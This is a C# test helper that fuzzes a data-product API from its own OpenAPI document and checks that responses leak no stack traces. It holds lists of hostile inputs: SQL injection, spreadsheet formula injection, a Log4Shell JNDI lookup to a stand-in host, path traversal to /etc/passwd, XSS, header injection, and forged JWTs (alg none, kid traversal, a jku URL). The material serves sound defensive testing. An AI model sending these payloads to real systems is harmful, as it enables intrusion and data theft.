using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using NJsonSchema;
using NJsonSchema.Generation;

namespace DataMeesh.Tests.DataProducts;

/// <summary>
/// Requests generated from an API's published OpenAPI document, the way an outside attacker's schema-driven fuzzer builds
/// them: every documented operation, its path and query parameters typed from the document, request bodies shaped by
/// NJsonSchema's sample generator from the document's component schemas, then filled with values the API itself served
/// (so many writes get as far as the database) or with hostile ones: NUL and other control characters, bidirectional
/// overrides, invisible characters, lone surrogates, formulas, injection text, extreme numbers and wrong types. Each
/// request goes with a random Accept (JSON, CSV, Excel, XML, YAML, HTML, nonsense), a random credential (none, the
/// platform's roles, another domain's writer, or a token from the JWT attack set) and sometimes an Idempotency-Key.
/// Deterministic for a seed.
/// </summary>
internal sealed class OpenApiAttack
{
    public static readonly string[] HostileText =
    [
        "\0", "Ann\0Lee", "\0\0\0", "a\u0001b", "\u001B[31mred", "\u007F", "\u0085", "\uFEFF", " \uFEFF ", "\u200B", "\u200BAnn", "Ann\u200D",
        "\u202Eeel nnA", "Ann\u202E", "\u2066x\u2069", "\u200E", "\u2060", "\u00AD", "\uD800", "a\uDC00b", "\uDBFF", "🙂💥", "👩\u200D💻",
        "名前", "محمد", "Zoë", "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
        "'; DROP TABLE orders; --", "\" OR 1=1 --", "1; DELETE FROM customers", "$$; SELECT pg_sleep(10); $$", "%00", "%", "_", "*", "..", "../../etc/passwd",
        "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "a\r\nX-Injected: 1", new string('x', 5000), "", " ", "null", "true",
        "[]", "{}", "NaN", "Infinity", "-0", "1e309", "9223372036854775808", "-9223372036854775809", "2026-13-45", "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z", ",", ",,,", "-", "--email", "\t", "\r\n",
    ];

    private static readonly object[] HostileNumbers =
    [
        0, -1, 1, 2, int.MaxValue, int.MinValue, long.MaxValue, long.MinValue, 0.5, -0.0, 1e308, 99_999_999_999_999_999_999m, 100, 101, 100_001,
    ];

    private static readonly string[] Accepts =
    [
        "application/json", "application/problem+json", "text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/xml", "text/xml", "application/yaml", "text/yaml", "text/html", "*/*", "text/plain", "image/png", "garbage;;q=x", "",
    ];

    // Hostile characters go into bodies as themselves where JSON allows, as \u escapes where it does not (NUL, surrogates).
    private static readonly JsonSerializerOptions RawText = new(JsonSerializerOptions.Default)
    {
        Encoder = System.Text.Encodings.Web.JavaScriptEncoder.UnsafeRelaxedJsonEscaping,
    };

    private readonly Random random;
    private readonly JsonObject document;
    private readonly Dictionary<string, List<JsonNode?>> served;
    private readonly IReadOnlyList<string> datasets;

    public OpenApiAttack(int seed, JsonObject document, Dictionary<string, List<JsonNode?>> served, IReadOnlyList<string> datasets)
    {
        random = new Random(seed);
        this.document = document;
        this.served = served;
        this.datasets = datasets;
        Operations = [.. Read(document)];
    }

    public IReadOnlyList<Operation> Operations { get; }

    public sealed record Operation(string Method, string Path, IReadOnlyList<(string Name, string In, JsonObject Schema)> Parameters, string? BodySchema);

    /// <summary>One request for <paramref name="operation"/>: hostile in some part, or (about one in four) entirely plausible.</summary>
    public HttpRequestMessage Build(Operation operation)
    {
        var plausible = random.Next(4) == 0;
        var path = operation.Path;
        var query = new List<string>();
        foreach (var (name, location, schema) in operation.Parameters)
        {
            if (location == "path")
            {
                // NUL never survives into a path (the server refuses it before routing), and a lone surrogate cannot be escaped.
                // Nor may a value leave the route: an empty segment or a dot segment would be another endpoint.
                var value = plausible || random.Next(2) == 0 ? PlausibleParameter(name, schema) : Hostile().Replace("\0", "", StringComparison.Ordinal);
                value = value.Trim('.').Length == 0 ? "x" + value : value;
                path = path.Replace("{" + name + "}", Escape(value), StringComparison.Ordinal);
            }
            else if (location == "query" && random.Next(plausible ? 8 : 4) == 0)
            {
                query.Add($"{Escape(name)}={Escape(plausible || random.Next(2) == 0 ? PlausibleParameter(name, schema) : Hostile())}");
            }
        }

        if (!plausible && random.Next(6) == 0)
        {
            query.Add($"{Escape(Hostile())}={Escape(Hostile())}"); // a parameter the document does not declare
        }

        var request = new HttpRequestMessage(new HttpMethod(operation.Method), path + (query.Count > 0 ? "?" + string.Join("&", query) : ""));
        if (operation.BodySchema is { } schemaName)
        {
            var body = plausible || random.Next(3) > 0 ? Body(schemaName, hostileLeaves: plausible ? 0 : 1 + random.Next(2)) : Hostile();
            request.Content = new StringContent(body, Encoding.UTF8, random.Next(20) == 0 ? "text/plain" : "application/json");
        }

        var accept = Accepts[random.Next(Accepts.Length)];
        if (accept.Length > 0)
        {
            request.Headers.TryAddWithoutValidation("Accept", accept);
        }

        return request;
    }

    public T Pick<T>(IReadOnlyList<T> values) => values[random.Next(values.Count)];

    public int Next(int max) => random.Next(max);

    /// <summary>A body of <paramref name="schemaName"/> with served values only: what a real client sends.</summary>
    public string PlausibleBody(string schemaName) => Body(schemaName, hostileLeaves: 0);

    /// <summary>One plausible body of <paramref name="schemaName"/> with, in turn, each of its fields set to each of <paramref name="values"/>.</summary>
    public IEnumerable<(string Field, string Value, string Json)> Substitutions(string schemaName, IReadOnlyList<string> values)
    {
        var template = JsonNode.Parse(PlausibleBody(schemaName))!;
        var paths = new List<string>();
        Paths(template, "", paths);
        foreach (var path in paths)
        {
            foreach (var value in values)
            {
                var body = template.DeepClone();
                Set(body, path, value);
                yield return (path, value, body.ToJsonString(RawText));
            }
        }
    }

    private static void Paths(JsonNode node, string prefix, List<string> paths)
    {
        switch (node)
        {
            case JsonObject obj:
                foreach (var (name, child) in obj) { if (child is JsonObject or JsonArray) Paths(child, $"{prefix}{name}.", paths); else paths.Add(prefix + name); }
                break;
            case JsonArray array:
                for (var i = 0; i < array.Count; i++) { if (array[i] is JsonObject or JsonArray) Paths(array[i]!, $"{prefix.TrimEnd('.')}[{i}].", paths); }
                break;
        }
    }

    // "items[0].quantity" -> body["items"][0]["quantity"] = value
    private static void Set(JsonNode body, string path, string value)
    {
        var node = body;
        var parts = path.Split('.');
        foreach (var part in parts[..^1])
        {
            var bracket = part.IndexOf('[', StringComparison.Ordinal);
            node = bracket < 0 ? node[part]! : node[part[..bracket]]![int.Parse(part[(bracket + 1)..^1], CultureInfo.InvariantCulture)]!;
        }

        node[parts[^1]] = value;
    }

    /// <summary>A body of <paramref name="schemaName"/>: the generator's shape, served values in its leaves, a few leaves hostile.</summary>
    private string Body(string schemaName, int hostileLeaves)
    {
        var sample = JsonNode.Parse(new SampleJsonDataGenerator(new SampleJsonDataGeneratorSettings { GenerateOptionalProperties = true })
            .Generate(SchemaOf(schemaName)).ToString())!;
        var leaves = new List<(JsonNode Parent, string? Property, int Index)>();
        Fill(sample, leaves);
        for (var i = 0; i < hostileLeaves && leaves.Count > 0; i++)
        {
            var (parent, property, index) = leaves[random.Next(leaves.Count)];
            var value = random.Next(3) == 0 ? JsonValue.Create(HostileNumbers[random.Next(HostileNumbers.Length)]) : HostileNode();
            if (property is not null)
            {
                if (random.Next(8) == 0) { parent.AsObject().Remove(property); } else { parent[property] = value; }
            }
            else
            {
                parent[index] = value;
            }
        }

        return sample.ToJsonString(RawText);
    }

    private JsonNode? HostileNode() => random.Next(10) switch
    {
        0 => new JsonArray(JsonValue.Create(Hostile())),
        1 => new JsonObject { ["x"] = Hostile() },
        2 => null,
        _ => JsonValue.Create(Hostile()),
    };

    // Leaves take a value the API served for the same field (customerId <- customer_id), so bodies get past validation.
    private void Fill(JsonNode node, List<(JsonNode Parent, string? Property, int Index)> leaves)
    {
        if (node is JsonObject obj)
        {
            foreach (var (name, child) in obj.ToList())
            {
                if (child is JsonObject or JsonArray)
                {
                    Fill(child, leaves);
                    continue;
                }

                if (served.TryGetValue(Snake(name), out var values))
                {
                    obj[name] = values[random.Next(values.Count)]?.DeepClone();
                }

                // Unique values (a lead's e-mail, a campaign's day of metrics) must be new for a write to be accepted.
                if (name == "email" && random.Next(2) == 0)
                {
                    obj[name] = $"fuzz.{random.Next():x}@example.com";
                }
                else if (name.EndsWith("Date", StringComparison.Ordinal) && random.Next(2) == 0)
                {
                    obj[name] = new DateOnly(2001, 1, 1).AddDays(random.Next(9000)).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);
                }

                leaves.Add((obj, name, -1));
            }
        }
        else if (node is JsonArray array)
        {
            for (var i = 0; i < array.Count; i++)
            {
                if (array[i] is JsonObject or JsonArray) { Fill(array[i]!, leaves); } else { leaves.Add((array, null, i)); }
            }
        }
    }

    private string PlausibleParameter(string name, JsonObject schema)
    {
        var column = name.Split('.')[0];
        if (name is "name" or "dataset")
        {
            return datasets[random.Next(datasets.Count)];
        }

        if (name == "id")
        {
            return random.Next(4) == 0 ? "99999" : random.Next(1, 20).ToString(CultureInfo.InvariantCulture);
        }

        if (served.TryGetValue(column, out var values) && values[random.Next(values.Count)] is { } value)
        {
            return value is JsonValue v && v.TryGetValue<string>(out var text) ? text : value.ToJsonString();
        }

        var type = schema["type"]?.ToString() ?? "string";
        return type.Contains("integer", StringComparison.Ordinal)
            ? random.Next(-2, 1200).ToString(CultureInfo.InvariantCulture)
            : name switch { "sort" => "-" + column, "format" => Pick<string>(["json", "csv", "xlsx"]), _ => "x" };
    }

    // One pick in three from the characters that broke the write path before (NUL, controls, bidi, invisible, surrogates).
    private string Hostile() => random.Next(3) == 0 ? Unicode[random.Next(Unicode.Length)] : HostileText[random.Next(HostileText.Length)];

    /// <summary>The NUL/Unicode set: NUL, controls, bidirectional controls, invisible characters, lone surrogates.</summary>
    public static readonly string[] Unicode = [.. HostileText.Where(t => t.Any(c => char.IsControl(c) || char.IsSurrogate(c)
        || char.GetUnicodeCategory(c) == UnicodeCategory.Format))];

    private static string Escape(string value)
    {
        try
        {
            return Uri.EscapeDataString(value);
        }
        catch (UriFormatException)
        {
            return "%ED%A0%80"; // a lone surrogate's (invalid) UTF-8, percent-encoded
        }
    }

    private static string Snake(string camel) => string.Concat(camel.Select((c, i) => char.IsUpper(c) ? (i > 0 ? "_" : "") + char.ToLowerInvariant(c) : c.ToString()));

    private readonly Dictionary<string, JsonSchema> schemas = [];

    // NJsonSchema reads draft-04 to draft-07 schemas: the document's components become "definitions" of one schema.
    private JsonSchema SchemaOf(string name)
    {
        if (!schemas.TryGetValue(name, out var schema))
        {
            var wrapper = new JsonObject
            {
                ["$ref"] = "#/definitions/" + name,
                ["definitions"] = document["components"]!["schemas"]!.DeepClone(),
            };
            schema = JsonSchema.FromJsonAsync(wrapper.ToJsonString().Replace("#/components/schemas/", "#/definitions/", StringComparison.Ordinal))
                .GetAwaiter().GetResult();
            schemas[name] = schema;
        }

        return schema;
    }

    private static IEnumerable<Operation> Read(JsonObject document)
    {
        foreach (var (path, item) in document["paths"]!.AsObject())
        {
            foreach (var (method, operation) in item!.AsObject())
            {
                var parameters = (operation!["parameters"]?.AsArray() ?? [])
                    .Select(p => (p!["name"]!.GetValue<string>(), p["in"]!.GetValue<string>(), p["schema"]?.AsObject() ?? new JsonObject()))
                    .ToList();
                var body = operation["requestBody"]?["content"]?["application/json"]?["schema"]?["$ref"]?.GetValue<string>();
                yield return new Operation(method.ToUpperInvariant(), path, parameters, body?[(body.LastIndexOf('/') + 1)..]);
            }
        }
    }

    /// <summary>Tokens an attacker forges or replays; none of them may be accepted where a token is required.</summary>
    public static IReadOnlyList<(string What, string Token)> JwtAttacks(DataProductApps apps, string domain)
    {
        var valid = apps.Token($"{domain}-writer", "pii-reader", $"{domain}-steward");
        var parts = valid.Split('.');
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds();
        string Encode(string json) => Convert.ToBase64String(Encoding.UTF8.GetBytes(json)).TrimEnd('=').Replace('+', '-').Replace('/', '_');
        string Claims(string iss, string aud, long exp) =>
            Encode($$"""{"iss":"{{iss}}","aud":"{{aud}}","sub":"mallory","exp":{{exp}},"nbf":{{now - 60}},"role":["{{domain}}-writer","pii-reader","{{domain}}-steward"]}""");
        var header = parts[0];
        return
        [
            ("expired", apps.TokenExpiring(DateTime.UtcNow.AddMinutes(-10), $"{domain}-writer")),
            ("signature changed", valid[..^4] + (valid[^4..] == "AAAA" ? "BBBB" : "AAAA")),
            ("signature removed", $"{parts[0]}.{parts[1]}."),
            ("claims changed, signature kept", $"{header}.{Claims(DataProductApps.Issuer, DataProductApps.Audience, now + 600)}.{parts[2]}"),
            ("issuer evil", $"{header}.{Claims("evil", DataProductApps.Audience, now + 600)}.{parts[2]}"),
            ("audience evil", $"{header}.{Claims(DataProductApps.Issuer, "evil", now + 600)}.{parts[2]}"),
            ("alg none", $"{Encode("""{"alg":"none","typ":"JWT"}""")}.{Claims(DataProductApps.Issuer, DataProductApps.Audience, now + 600)}."),
            ("alg None", $"{Encode("""{"alg":"None","typ":"JWT"}""")}.{Claims(DataProductApps.Issuer, DataProductApps.Audience, now + 600)}."),
            ("alg RS256 confusion", $"{Encode("""{"alg":"RS256","typ":"JWT"}""")}.{parts[1]}.{parts[2]}"),
            ("kid injection", $"{Encode("""{"alg":"HS256","typ":"JWT","kid":"../../../../dev/null"}""")}.{parts[1]}.{parts[2]}"),
            ("jku", $"{Encode("""{"alg":"HS256","typ":"JWT","jku":"http://evil.example/jwks.json"}""")}.{parts[1]}.{parts[2]}"),
            ("empty", ""),
            ("garbage", "not.a.token"),
            ("huge", new string('A', 20_000)),
        ];
    }

    /// <summary>Text that only a framework or a crash writes: never in any response body.</summary>
    public static readonly string[] Leaks =
    [
        "\n   at ", "   at System.", "   at Microsoft.", "   at Npgsql.", "Npgsql.", "PostgresException", "NpgsqlException", "Please file a bug",
        "System.InvalidOperationException", "System.NullReferenceException", "System.Text.Json.JsonException", "Microsoft.AspNetCore.",
        "SQLSTATE", "StackTrace", "Unhandled exception", "DataRow", "pg_catalog", "IDX10", "Bearer error",
        // ASP.NET Core's binding messages (issue 17): they speak of C# parameters and services, not of the request.
        "Implicit body inferred", "Failed to bind parameter", "Did you mean to use a Service", "could not be converted to",
    ];

    public static void AddAuthorization(HttpRequestMessage request, string? token)
    {
        if (token is not null)
        {
            request.Headers.TryAddWithoutValidation("Authorization", "Bearer " + token);
        }
    }

    public static string Describe(HttpRequestMessage request, string credential, string? body) =>
        $"{request.Method} {request.RequestUri} Accept={request.Headers.Accept} as {credential}" + (body is null ? "" : $" body={body[..Math.Min(body.Length, 300)]}");

    public static MediaTypeHeaderValue? ContentType(HttpResponseMessage response) => response.Content.Headers.ContentType;
}
